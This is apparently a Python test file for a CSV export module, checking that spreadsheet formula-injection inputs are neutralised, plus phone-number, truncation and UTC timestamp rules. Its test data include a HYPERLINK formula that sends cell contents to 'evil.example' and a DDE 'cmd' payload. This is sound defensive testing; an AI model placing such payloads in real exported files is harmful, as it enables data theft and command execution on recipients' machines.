"""Cell rules: OWASP's formula triggers, joined and cut values."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone

import pytest

from leaddesk.export.cells import Moment, as_datetime, join_values, neutralise, timestamp, truncate


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("+49 30 1234567", "+49 30 1234567"),  # a phone number calls nothing: kept as typed
    ("-12.5", "-12.5"),
    ("a=1", "a=1"),  # only the first character counts
    (" =1", " =1"),
    ("", ""),
    (None, ""),
    (42, "42"),
    ("'already quoted", "'already quoted"),
])
def test_neutralise(value: str | int | None, expected: str) -> None:
    assert neutralise(value) == expected


@pytest.mark.parametrize(("value", "kept"), [
    ("+1 23456", False),  # 6 digits: too short for a phone number, so a would-be formula
    ("+1 234567", True),  # 7 digits, the fewest E.164 allows
    ("+1 (555) 010-2000", True),  # punctuation and one bracketed group do not count as digits
    ("+1.555/010-2000", True),
    ("+123 456 789 012 345", True),  # 15 digits, the most
    ("+123 456 789 012 3456", False),  # 16
    ("+44 (20) (7946) 0958", False),  # two bracketed groups
])
def test_a_phone_number_is_kept_by_its_digit_count(value: str, kept: bool) -> None:
    assert neutralise(value) == (value if kept else "'" + value)


def test_join_and_truncate() -> None:
    assert join_values(["cold", "hot"]) == "cold; hot"
    assert join_values([]) == ""
    assert truncate("abcdef", 4) == "abc…"
    assert truncate("abcd", 4) == "abcd"
    assert truncate(None, 4) is None


@pytest.mark.parametrize(("moment", "expected"), [
    (None, None),
    ("2026-03-02 09:00:00.123456", "2026-03-02T09:00:00+00:00"),  # SQLite's naive UTC text
    ("2026-03-02 09:00:00", "2026-03-02T09:00:00+00:00"),
    ("2026-03-02T09:00:00", "2026-03-02T09:00:00+00:00"),  # ISO text without an offset is UTC
    ("2026-03-02T10:00:00+01:00", "2026-03-02T09:00:00+00:00"),
    (datetime(2026, 3, 2, 11, 0, 30, 999, tzinfo=timezone(timedelta(hours=2))),
     "2026-03-02T09:00:30+00:00"),  # PostgreSQL's aware datetime, to the second
])
def test_timestamps_are_iso_utc_to_the_second(moment: Moment | None, expected: str | None) -> None:
    assert timestamp(moment) == expected


def test_as_datetime_gives_aware_utc() -> None:
    assert as_datetime("2026-03-02 09:00:00") == datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    got = as_datetime("2026-03-02T10:00:00+01:00")
    assert got == datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    assert got.utcoffset() == timedelta(0)
    aware = as_datetime(datetime(2026, 3, 2, 10, 0, tzinfo=timezone(timedelta(hours=1))))
    assert aware.tzinfo == UTC


@pytest.mark.parametrize(("text", "limit", "expected"), [
    ("abcde", 5, "abcde"), ("abcdef", 5, "abcd…"), ("", 1, ""), ("ab", 1, "…")])
def test_truncate_at_the_limit(text: str, limit: int, expected: str) -> None:
    assert truncate(text, limit) == expected
    assert len(truncate(text, limit) or "") <= limit


@pytest.fixture
def tokyo(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A desktop far from UTC: naive times must still be read as UTC, never as local time."""
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("tokyo")
def test_times_do_not_depend_on_the_desktops_time_zone() -> None:
    assert as_datetime("2026-03-02T09:00:00") == datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    for moment in ("2026-03-02T09:00:00", "2026-03-02T18:00:00+09:00",
                   datetime(2026, 3, 2, 18, 0, tzinfo=timezone(timedelta(hours=9)))):
        converted = as_datetime(moment)
        assert converted.utcoffset() == timedelta(0)
        assert converted.hour == 9
        assert timestamp(moment) == "2026-03-02T09:00:00+00:00"
